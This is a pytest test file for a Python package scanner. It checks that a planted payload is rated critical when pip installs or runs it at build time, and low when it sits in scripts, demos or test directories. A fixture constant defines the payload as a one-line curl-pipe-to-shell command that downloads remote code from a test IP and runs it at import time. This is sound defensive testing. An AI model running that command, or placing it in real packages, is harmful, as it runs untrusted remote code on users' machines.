"""An sdist's files run for different reasons: pip runs setup.py and the in-tree backend,
installs the packages, and never touches the scripts, benchmarks and demos beside them."""

from __future__ import annotations

import pytest
from behaviourkit import installed

from wellcheck.artifact.memory import MemoryTree
from wellcheck.checks import CheckContext
from wellcheck.inventory import collect
from wellcheck.models import ArtifactInfo, Component, ComponentKind, Finding, Severity
from wellcheck.signals.behaviour import BehaviourCheck

#: a download run at import time: critical wherever it runs by itself
PAYLOAD = b"import os\nos.system('curl -s http://203.0.113.9/a | sh')\n"
SETUP = b"from setuptools import setup, find_packages\nsetup(packages=find_packages())\n"


def _findings(files: dict[str, bytes]) -> dict[str, Finding]:
    """The worst behaviour finding per file of the sdist ``pkg-1.0``."""
    tree = MemoryTree({"pkg-1.0/PKG-INFO": b"Name: pkg\nVersion: 1.0\n", **files})
    sdist = Component("pkg", "1.0", ComponentKind.SDIST, "pkg-1.0", site_root="pkg-1.0")
    context = CheckContext(artifact=ArtifactInfo("pkg-1.0.tar.gz", "sdist"), trees=(tree,))
    worst: dict[str, Finding] = {}
    for finding in BehaviourCheck(workers=1).run([sdist], context).findings:
        path = finding.path or ""
        if path not in worst or finding.severity > worst[path].severity:
            worst[path] = finding
    return worst


@pytest.mark.parametrize("path", ["pkg-1.0/scripts/release.py", "pkg-1.0/Demos/build/setup.py"])
def test_a_script_pip_neither_installs_nor_runs_is_at_most_low(path: str) -> None:
    found = _findings({"pkg-1.0/setup.py": SETUP, "pkg-1.0/pkg/__init__.py": b"", path: PAYLOAD})
    assert found[path].severity is Severity.LOW
    assert "neither installs nor runs" in found[path].evidence


def test_the_same_code_in_an_installed_package_is_critical() -> None:
    found = _findings({"pkg-1.0/setup.py": SETUP, "pkg-1.0/pkg/__init__.py": PAYLOAD})
    assert found["pkg-1.0/pkg/__init__.py"].severity is Severity.CRITICAL


def test_a_root_module_setup_py_imports_is_install_time_code() -> None:
    helper = b"import urllib.request\n" + PAYLOAD
    found = _findings(
        {
            "pkg-1.0/setup.py": b"import build_helper\n" + SETUP,
            "pkg-1.0/build_helper.py": helper,
            "pkg-1.0/pkg/__init__.py": b"",
        }
    )
    assert found["pkg-1.0/build_helper.py"].severity is Severity.CRITICAL
    assert "at install time" in found["pkg-1.0/build_helper.py"].evidence


def test_an_in_tree_backend_is_its_module_not_everything_on_its_path() -> None:
    pyproject = b'[build-system]\nbuild-backend = "_backend"\nbackend-path = ["."]\n'
    library = b"import subprocess\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n"
    found = _findings(
        {
            "pkg-1.0/pyproject.toml": pyproject,
            "pkg-1.0/_backend.py": b"from setuptools.build_meta import *\n" + PAYLOAD,
            "pkg-1.0/setup.py": SETUP,
            "pkg-1.0/pkg/__init__.py": b"",
            "pkg-1.0/pkg/shell.py": library,
        }
    )
    assert "at install time" in found["pkg-1.0/_backend.py"].evidence
    assert found["pkg-1.0/_backend.py"].severity is Severity.CRITICAL
    # a library function that runs a command when called: not install-time code
    assert found.get("pkg-1.0/pkg/shell.py") is None or (
        found["pkg-1.0/pkg/shell.py"].severity <= Severity.LOW
    )


def test_a_backends_own_tests_are_tests() -> None:
    pyproject = b'[build-system]\nbuild-backend = "tool.build_meta"\nbackend-path = ["."]\n'
    found = _findings(
        {
            "pkg-1.0/pyproject.toml": pyproject,
            "pkg-1.0/tool/__init__.py": b"",
            "pkg-1.0/tool/build_meta.py": b"def build_wheel(*a): pass\n",
            "pkg-1.0/tool/tests/test_hooks.py": PAYLOAD,
        }
    )
    assert found["pkg-1.0/tool/tests/test_hooks.py"].severity is Severity.LOW
    assert "in a test module" in found["pkg-1.0/tool/tests/test_hooks.py"].evidence


HATCH = b"""[build-system]
build-backend = "hatchling.build"
[project]
name = "pkg"
[tool.hatch.build.targets.wheel]
packages = ["payload"]
[tool.hatch.build.targets.sdist]
include = ["/bench"]
[tool.ruff.per-file-ignores]
"tools/**" = ["T20"]
"""


@pytest.mark.parametrize(
    ("path", "severity"),
    [
        ("pkg-1.0/payload/run.py", Severity.CRITICAL),  # named, no __init__.py: installed
        ("pkg-1.0/bench/timing.py", Severity.LOW),  # a package, but hatch installs what is named
        ("pkg-1.0/tools/release.py", Severity.LOW),  # named only by ruff's table
    ],
)
def test_hatch_installs_what_its_wheel_target_names_not_its_sdist_include(
    path: str, severity: Severity
) -> None:
    files = {"pkg-1.0/pyproject.toml": HATCH, "pkg-1.0/bench/__init__.py": b"", path: PAYLOAD}
    assert _findings(files)[path].severity is severity


@pytest.mark.parametrize(
    ("path", "severity"),
    [("pkg-1.0/helpers/run.py", Severity.CRITICAL), ("pkg-1.0/scripts/run.py", Severity.LOW)],
)
def test_setuptools_discovery_may_install_any_directory_it_does_not_exclude(
    path: str, severity: Severity
) -> None:
    """No packages named anywhere: setuptools' automatic discovery decides, and it
    takes a top-level directory without ``__init__.py`` (a namespace package), but
    never ``scripts/``."""
    pyproject = b'[build-system]\nbuild-backend = "setuptools.build_meta"\n'
    found = _findings({"pkg-1.0/pyproject.toml": pyproject, path: PAYLOAD})
    assert found[path].severity is severity


def test_namespace_packages_make_every_directory_installable() -> None:
    setup = b"from setuptools import setup, find_namespace_packages\n"
    setup += b"setup(packages=find_namespace_packages())\n"
    found = _findings({"pkg-1.0/setup.py": setup, "pkg-1.0/anything/run.py": PAYLOAD})
    assert found["pkg-1.0/anything/run.py"].severity is Severity.CRITICAL


@pytest.mark.parametrize("directory", ["manual tests", "unit_tests", "integration-tests"])
def test_a_directory_of_manual_or_unit_tests_is_tests(directory: str) -> None:
    path = f"pkg-1.0/pkg/{directory}/fetch.py"
    found = _findings(
        {
            "pkg-1.0/setup.py": SETUP,
            "pkg-1.0/pkg/__init__.py": b"",
            f"pkg-1.0/pkg/{directory}/__init__.py": b"",
            path: PAYLOAD,
        }
    )
    assert "in a test module" in found[path].evidence
    assert found[path].severity is Severity.LOW


def test_a_package_named_like_tests_is_still_a_package() -> None:
    """Only directories below the top one may be tests by the end of their name: a
    top-level ``acme-api-test`` (installed, or at an sdist's top) is the package itself."""
    tree = MemoryTree(installed("acme-api-test", "0.2", {"acme-api-test/__init__.py": PAYLOAD}))
    context = CheckContext(artifact=ArtifactInfo("x", "directory"), trees=(tree,))
    found = BehaviourCheck(workers=1).run(collect(tree), context).findings
    assert max(f.severity for f in found) is Severity.CRITICAL
    top = _findings({"pkg-1.0/setup.py": SETUP, "pkg-1.0/acme_tests/__init__.py": PAYLOAD})
    assert top["pkg-1.0/acme_tests/__init__.py"].severity is Severity.CRITICAL


def test_the_package_the_sdist_is_named_for_is_installable_whatever_the_backend_says() -> None:
    """A poetry configuration naming another project: the package named like the
    sdist's PKG-INFO (and its egg-info's top_level.txt) is still read as installed."""
    pyproject = b'[tool.poetry]\nname = "template"\n[build-system]\n'
    pyproject += b'build-backend = "poetry.core.masonry.api"\n'
    for files in (
        {"pkg-1.0/pkg/__init__.py": PAYLOAD},
        {"pkg-1.0/lib/__init__.py": PAYLOAD, "pkg-1.0/pkg.egg-info/top_level.txt": b"lib\n"},
    ):
        path = next(p for p in files if p.endswith("__init__.py"))
        found = _findings({"pkg-1.0/pyproject.toml": pyproject, **files})
        assert found[path].severity is Severity.CRITICAL
